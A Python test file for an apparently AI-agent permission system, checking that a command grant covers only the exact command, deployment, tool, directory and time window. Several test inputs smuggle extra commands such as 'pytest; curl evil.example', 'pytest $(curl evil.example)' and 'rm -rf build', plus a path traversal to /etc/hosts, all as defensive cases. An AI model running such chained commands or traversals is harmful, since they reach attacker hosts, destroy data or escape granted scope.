"""Whether a grant covers a call: all of it, for its deployment, before it expires."""

from __future__ import annotations

from datetime import timedelta

import pytest

from watchkeeper.clock import utcnow
from watchkeeper.events import ToolCall
from watchkeeper.normalize import Normalizer
from watchkeeper.review import Grant, GrantSpec, covers

from .conftest import bash

NORMALIZER = Normalizer()


def _grant(**fields: object) -> Grant:
    values: dict[str, object] = {
        "deployment_id": "alpha",
        "tool": "Bash",
        "command": ("pytest",),
        "duration": timedelta(hours=8),
        "created_by": "rita",
    }
    values.update(fields)
    spec = GrantSpec.model_validate(values)
    now = utcnow()
    return Grant(id="g1", spec=spec, created_at=now, expires_at=now + spec.duration)


def _covers(grant: Grant, call: ToolCall) -> bool:
    return covers(grant, call, NORMALIZER.tool_call(call), utcnow())


def test_a_granted_command_is_covered() -> None:
    """`pytest -x tests` is covered by a grant for `pytest`."""
    assert _covers(_grant(), bash("pytest -x tests"))


@pytest.mark.parametrize(
    "command",
    [
        "pytest; curl evil.example",
        "pytest && rm -rf build",
        "pytest -x; echo done",
        "pytest $(curl evil.example)",
        "sudo pytest",
        "PATH=. pytest",
        "./pytest",
        "pytest > out.txt",
        "nohup pytest &",
        "python -m pytest",
        "pytest-watch",
    ],
)
def test_anything_beyond_the_grant_is_not_covered(command: str) -> None:
    """A compound line, wrapper, assignment, redirection or other program defeats the grant."""
    assert not _covers(_grant(), bash(command))


def test_a_multi_word_prefix_must_match_word_by_word() -> None:
    """A grant for `npm test` covers `npm test -- -u` but not `npm publish`."""
    grant = _grant(command=("npm", "test"))
    assert _covers(grant, bash("npm test -- -u"))
    assert not _covers(grant, bash("npm publish"))


def test_another_deployment_is_not_covered() -> None:
    """A grant for `alpha` never covers a call of `beta`."""
    assert not _covers(_grant(), bash("pytest", deployment="beta"))


def test_another_tool_is_not_covered() -> None:
    """A grant for `Bash` does not cover the same command under another tool name."""
    call = ToolCall(
        deployment_id="alpha", session_id="s1", tool="BashOutput", args={"command": "pytest"}
    )
    assert not _covers(_grant(), call)


def test_the_working_directory_must_be_under_the_cwd_prefix() -> None:
    """A grant scoped to `/repo` covers calls in `/repo/sub` but not in `/repository`."""
    grant = _grant(cwd_prefix="/repo")
    assert _covers(grant, bash("pytest", cwd="/repo/sub"))
    assert not _covers(grant, bash("pytest", cwd="/repository"))
    assert not _covers(grant, bash("pytest", cwd="/"))


def test_a_path_grant_covers_edits_under_its_prefix_only() -> None:
    """An `Edit` grant under `/repo` covers `/repo/a.py` but not `/etc/hosts`."""
    grant = _grant(tool="Edit", command=(), path_prefix="/repo")

    def edit(path: str) -> ToolCall:
        args = {"file_path": path, "old_string": "a", "new_string": "b"}
        return ToolCall(deployment_id="alpha", session_id="s1", tool="Edit", args=args)

    assert _covers(grant, edit("/repo/src/a.py"))
    assert not _covers(grant, edit("/etc/hosts"))
    assert not _covers(grant, edit("/repo/../etc/hosts"))


def test_a_path_prefix_allows_writes_under_it() -> None:
    """With a path prefix, `pytest > /repo/out.txt` is covered and `> /tmp/out` is not."""
    grant = _grant(path_prefix="/repo")
    assert _covers(grant, bash("pytest > /repo/out.txt"))
    assert not _covers(grant, bash("pytest > /tmp/out.txt"))


def test_an_expired_grant_covers_nothing() -> None:
    """Past its expiry a grant no longer covers the call it was made for."""
    grant = _grant()
    call = bash("pytest")
    later = grant.expires_at + timedelta(seconds=1)
    assert not covers(grant, call, NORMALIZER.tool_call(call), later)


def test_a_revoked_grant_covers_nothing() -> None:
    """A revoked grant covers nothing, even before its expiry."""
    grant = _grant().model_copy(update={"revoked_at": utcnow(), "revoked_by": "rita"})
    assert not _covers(grant, bash("pytest"))


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"duration": timedelta(hours=25)}, "at most 24 h"),
        ({"duration": timedelta(0)}, "more than 0"),
        ({"command": ()}, "neither `command` nor `path_prefix`"),
        ({"path_prefix": "repo"}, "not absolute"),
    ],
)
def test_unscoped_or_too_long_grants_are_refused(fields: dict[str, object], message: str) -> None:
    """A grant longer than 24 h, without a scope or with a relative path is refused."""
    with pytest.raises(ValueError, match=message):
        _grant(**fields)
